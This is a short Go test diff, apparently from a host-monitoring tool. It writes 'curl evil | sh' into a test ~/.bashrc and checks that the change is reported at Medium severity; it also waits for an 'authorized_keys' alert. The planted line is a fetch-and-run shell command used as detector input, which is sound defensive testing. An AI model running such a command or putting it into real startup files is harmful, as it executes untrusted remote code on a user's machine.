@@ -278,7 +278,9 @@ func TestUserModeWatchesHome(t *testing.T) {
 	}
 	bashrc := filepath.Join(home, ".bashrc")
 	os.WriteFile(bashrc, []byte("curl evil | sh\n"), 0o644)
-	s.until(pathIs(bashrc))
+	if got := s.until(pathIs(bashrc)); got[len(got)-1].Severity != event.Medium {
+		t.Fatalf("~/.bashrc change has severity %v, want Medium", got[len(got)-1].Severity)
+	}
 	deadline := time.Now().Add(10 * time.Second)
 	for !strings.Contains(d.stdout.String(), "authorized_keys") {
 		if time.Now().After(deadline) {
